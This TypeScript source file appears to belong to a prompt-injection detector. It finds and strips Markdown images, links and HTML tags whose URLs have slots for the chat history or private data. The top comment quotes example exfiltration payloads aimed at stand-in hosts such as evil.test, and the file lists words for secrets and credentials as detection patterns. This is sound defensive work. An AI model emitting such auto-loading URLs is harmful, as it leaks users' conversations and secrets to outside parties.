import { PromptInjectionCategory } from './PromptInjectionCategory.js';
import type { RuleHit } from './RuleHit.js';

// A Markdown image or link, or a bare address, whose URL has a slot for the conversation
// ("![](https://evil.test/p?q={chat_history})", "https://x.test/c?d=$CONVERSATION"): the model is
// asked to fill it, and an image loads by itself the moment the answer is rendered. The slot is
// exact syntax (braces, brackets, `$VAR`, a query value the text tells the reader to replace).

const MAX_URL_LENGTH = 2_048;
const MAX_TAG_LENGTH = 1_000;
/** At most this many addresses are examined per text (bounded work on huge inputs). */
const MAX_URLS = 256;
const SENSITIVE_PLACEHOLDER_WORDS = [
  'question',
  'insert',
  'placeholder',
  'conversation',
  'chat',
  'history',
  'message',
  'prompt',
  'secret',
  'password',
  'passwd',
  'token',
  'apikey',
  'credential',
  'email',
  'memory',
  'summary',
  'context',
  'userdata',
  'personal',
  'data',
  'input',
  'query',
  'answer',
  'response',
  'info',
  'cookie',
  'session',
  'key',
  'private',
  'name',
  'address',
  'phone',
];

/** Slots that can only mean the conversation itself. */
const CONVERSATION_WORDS = [
  'conversation',
  'chat',
  'history',
  'prompt',
  'memory',
  'messages',
  'transcript',
  'question',
];

function containsConversationWord(name: string): boolean {
  const letters = name.toLowerCase().replace(/[^a-z]/g, '');
  return CONVERSATION_WORDS.some((word) => letters.includes(word));
}

function containsSensitiveWord(name: string): boolean {
  const letters = name.toLowerCase().replace(/[^a-z]/g, '');
  if (letters.length < 3) return false;
  return SENSITIVE_PLACEHOLDER_WORDS.some((word) => letters.includes(word));
}

/** 2 when the URL has a slot for the conversation, 1 for other private data, else 0. Slots: `{conversation}`, `[CHAT_HISTORY]`, `$SECRET`, `=INSERT_DATA_HERE`. */
export function urlCarriesPlaceholder(url: string): 0 | 1 | 2 {
  // "{{conversation}}" (template braces) is the same slot as "{conversation}".
  let decoded = url.replaceAll('{{', '{').replaceAll('}}', '}');
  if (decoded.includes('%')) {
    decoded = decoded
      .replace(/%7b/gi, '{')
      .replace(/%7d/gi, '}')
      .replace(/%5b/gi, '[')
      .replace(/%5d/gi, ']')
      .replace(/%3c/gi, '<')
      .replace(/%3e/gi, '>')
      .replace(/%24/g, '$');
  }
  const pairs: [string, string][] = [
    ['{', '}'],
    ['[', ']'],
    ['<', '>'],
  ];
  for (const [open, close] of pairs) {
    let from = 0;
    for (let guard = 0; guard < 16; guard++) {
      const start = decoded.indexOf(open, from);
      if (start < 0) break;
      const end = decoded.indexOf(close, start + 1);
      if (end < 0 || end - start > 80) break;
      const inner = decoded.slice(start + 1, end);
      // A slot is a name ("{chat_history}"), not JSON or code ("{type:'bar',data:[1]}").
      if (/^[\p{L}\p{N}_ .'’-]{3,40}$/u.test(inner) && containsSensitiveWord(inner))
        return containsConversationWord(inner) ? 2 : 1;
      from = end + 1;
    }
  }
  // `$VAR` and `=UPPER_CASE_SLOT` placeholders.
  const variables = (decoded.match(/[$=][A-Z][A-Z0-9_]{2,40}/g) ?? []).filter(
    (variable) => containsSensitiveWord(variable) && /[A-Z]{3}/.test(variable),
  );
  if (variables.length === 0) return 0;
  return variables.some(containsConversationWord) ? 2 : 1;
}

const MAX_ECHO_DISTANCE = 500;

/**
 * True when a query value of the URL ("?q=VERLAUF") is named again in the text around it ("replace
 * VERLAUF with a summary of the chat"): the value is a slot the reader is told to fill.
 */
function queryValueEchoed(text: string, url: string, start: number, end: number): boolean {
  const query = url.indexOf('?');
  if (query < 0) return false;
  const around =
    text.slice(Math.max(0, start - MAX_ECHO_DISTANCE), start) + ' ' + text.slice(end, end + MAX_ECHO_DISTANCE);
  // An address that ends in an empty parameter ("?c=") next to talk of the conversation is a slot too.
  if (url.endsWith('=')) {
    const nearby = text.slice(Math.max(0, start - 200), start) + text.slice(end, end + 200);
    if (containsConversationWord(nearby)) return true;
  }
  for (const pair of url
    .slice(query + 1)
    .split(/[&#]/)
    .slice(0, 16)) {
    const value = pair.slice(pair.indexOf('=') + 1);
    if (value.length < 2 || value.length > 40 || !/^[\p{L}_-]+$/u.test(value)) continue;
    const ideographic = /[^\u0000-\u02ff]/.test(value);
    if (!ideographic && (value.length < 4 || value !== value.toUpperCase())) continue;
    if (around.includes(value)) return true;
  }
  return false;
}

/** Where "[label]: " opens the line that ends `before` (a Markdown link reference definition), or -1. */
function referenceDefinitionStart(before: string, lineOpen: number): number {
  let i = lineOpen;
  while (i < before.length && i - lineOpen < 3 && before.charCodeAt(i) === 0x20) i++;
  if (before.charCodeAt(i) !== 0x5b) return -1;
  const close = before.indexOf(']:', i);
  if (close < 0 || close - i > 40 || before.slice(i, close).includes('\n')) return -1;
  for (let k = close + 2; k < before.length; k++) {
    if (before.charCodeAt(k) !== 0x20 && before.charCodeAt(k) !== 0x3c) return -1;
  }
  return i;
}

function isUrlTerminator(code: number): boolean {
  return code <= 0x20 || code === 0x29 || code === 0x22 || code === 0x27 || code === 0x3e || code === 0x60;
}

/**
 * The addresses of `text` with a slot for conversation data, as spans to remove: a Markdown or HTML
 * image with any private-data slot (it loads by itself), a Markdown or HTML link or a bare address
 * whose slot is the conversation itself. A link whose slot is other data ("?email={email}", a
 * sign-up form) is left to the model's reading of the sentence around it. At most {@link MAX_URLS}
 * addresses are examined; linear in the text.
 */
export function findExfiltrationUrls(text: string): RuleHit[] {
  const hits: RuleHit[] = [];
  let from = 0;
  let count = 0;
  while (count < MAX_URLS) {
    const http = text.indexOf('http', from);
    if (http < 0) break;
    from = http + 4;
    if (!text.startsWith('://', http + 4) && !text.startsWith('s://', http + 4)) continue;
    count++;
    let end = http;
    // Placeholders may hold spaces ("{chat history}"): allow them inside brackets.
    let depth = 0;
    while (end < text.length && end - http < MAX_URL_LENGTH) {
      const code = text.charCodeAt(end);
      if (code === 0x7b || code === 0x5b) depth++;
      else if ((code === 0x7d || code === 0x5d) && depth > 0) depth--;
      else if (depth === 0 && isUrlTerminator(code)) break;
      else if (depth > 0 && (code === 0x0a || code === 0x29)) break;
      end++;
    }
    from = end;
    const url = text.slice(http, end);
    const slot = Math.max(urlCarriesPlaceholder(url), queryValueEchoed(text, url, http, end) ? 2 : 0);
    if (slot === 0) continue;
    const beforeStart = Math.max(0, http - 600);
    const before = text.slice(beforeStart, http);
    const lineOpen = before.lastIndexOf('\n') + 1;
    // A reference-style definition ("[1]: https://…") is a link as much as "[text](https://…)".
    const definition = referenceDefinitionStart(before, lineOpen);
    const markdownOpen = before.endsWith('](') ? before.lastIndexOf('[') : definition;
    const isMarkdown = markdownOpen >= 0 && !before.slice(markdownOpen).includes('\n');
    const isMarkdownImage = isMarkdown && markdownOpen > 0 && before.charCodeAt(markdownOpen - 1) === 0x21;
    const tagOpen = before.lastIndexOf('<');
    const isImageTag = tagOpen >= 0 && /^<img\b/i.test(before.slice(tagOpen)) && !before.slice(tagOpen).includes('>');
    const isImage = isMarkdownImage || isImageTag;
    if (!isImage && slot < 2) continue;
    // An HTML anchor is a link like a Markdown one: "<a href=\"https://…?d=CHAT\">".
    const isAnchorTag = tagOpen >= 0 && /^<a\s/i.test(before.slice(tagOpen)) && !before.slice(tagOpen).includes('>');
    let start = http;
    let stop = end;
    if (isMarkdown) {
      start = beforeStart + markdownOpen - (isMarkdownImage ? 1 : 0);
      if (text.charCodeAt(end) === 0x29) stop = end + 1;
    } else if (isImageTag || isAnchorTag) {
      start = beforeStart + tagOpen;
      const tagClose = text.indexOf('>', end);
      if (tagClose >= 0 && tagClose - end < MAX_TAG_LENGTH) stop = tagClose + 1;
    }
    hits.push({
      start,
      end: stop,
      ruleId: isImage
        ? 'exfiltration.markdown-image-url'
        : isMarkdown || isAnchorTag
          ? 'exfiltration.markdown-link-url'
          : 'exfiltration.placeholder-url',
      category: PromptInjectionCategory.EXFILTRATION,
    });
  }
  return hits;
}
